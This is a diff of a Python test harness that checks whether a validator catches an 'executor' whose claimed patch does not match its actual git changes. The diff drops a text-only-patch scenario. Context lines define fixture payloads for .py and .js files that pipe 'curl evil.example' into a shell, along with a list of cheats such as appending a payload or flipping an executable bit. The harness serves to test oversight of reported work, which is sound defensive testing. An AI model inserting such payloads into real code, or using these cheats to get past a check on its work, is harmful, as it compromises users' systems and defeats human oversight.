@@ -19,8 +19,7 @@ and, in a fresh copy of that repository per scenario (git with no global or syst
   whole release  the new release written into the work tree and left four ways: all in the
                  work tree (new files untracked); all staged; all committed by the "executor";
                  mixed (a third of the changes committed, a third staged, the rest unstaged or
-                 untracked); plus the work-tree case with a text-only patch (binary files as
-                 "Binary files ... differ"). Description "Update <package> to <version>".
+                 untracked). Description "Update <package> to <version>".
   one file       up to --sample changed files (seeded choice; a rename is its two paths), each
                  in a repository where only that change was made, left in the work tree,
                  staged or committed in turn.
@@ -135,7 +134,7 @@ _READER_RULES = frozenset({"patch_mismatch", "changed_but_unclaimed", "claimed_b
                            "workspace_unreadable", "judge_error"})
 _PAYLOADS = {".py": b'import os; os.system("curl evil.example | sh")\n',
              ".js": b'require("child_process").execSync("curl evil.example | sh");\n'}
-_WHOLE_STATES = ("worktree", "staged", "committed", "mixed", "worktree, text patch")
+_WHOLE_STATES = ("worktree", "staged", "committed", "mixed")
 _ONE_FILE_STATES = ("worktree", "staged", "committed")
 _CHEATS = ("append payload", "change one character", "unclaimed new file", "revert to base", "flip executable bit")
 _ARCHIVE = re.compile(r"^(?P<name>.+?)-(?P<version>\d[^/]*?)\.(?:tar\.gz|tgz|tar\.bz2|tar\.xz|tar)$")
@@ -305,7 +304,7 @@ def _add(repo: Path, paths: list[str]) -> None:
           data=b"\0".join(p.encode("utf-8", "surrogateescape") for p in paths))
 
 
-def _claim(repo: Path, base: str, scratch: Path, binary: bool = True) -> tuple[str, list[str]]:
+def _claim(repo: Path, base: str, scratch: Path) -> tuple[str, list[str]]:
     """The executor's honest patch and paths: `git diff -M <base>`, untracked files intent-to-add in an index copy."""
     index = scratch / "index-copy"
     if (repo / ".git" / "index").exists():
@@ -313,8 +312,7 @@ def _claim(repo: Path, base: str, scratch: Path, binary: bool = True) -> tuple[s
     untracked = _wgit(repo, "ls-files", "-z", "--others", "--exclude-standard", index=index)
     if untracked.strip(b"\0"):
         _wgit(repo, "add", "-N", "--pathspec-from-file=-", "--pathspec-file-nul", index=index, data=untracked)
-    options = ["--binary"] if binary else []
-    patch = _wgit(repo, "diff", "-M", "--no-color", "--no-ext-diff", *options, base, index=index)
+    patch = _wgit(repo, "diff", "-M", "--no-color", "--no-ext-diff", "--binary", base, index=index)
     names = _name_status(_wgit(repo, "diff", "-M", "--name-status", "-z", base, index=index).split(b"\0"))
     index.unlink(missing_ok=True)
     paths = sorted({p for _, ps in names for p in ps})
@@ -446,7 +444,7 @@ def _judge_scenario(pair: _Pair, repo: Path, scratch: Path, kind: str, state: st
                     changes: list[tuple[str, list[str]]], rng: random.Random,
                     cases: list[_Case], cheats: list[_Cheat]) -> None:
     _stage(repo, state, changes)
-    patch, paths = _claim(repo, pair.base, scratch, binary=not state.endswith("text patch"))
+    patch, paths = _claim(repo, pair.base, scratch)
     description = f"Update {pair.package} to {pair.version}"
     step, result = _honest_step(patch, paths, description)
     verdict, seconds = _timed_validate(step, result, repo, pair.base)
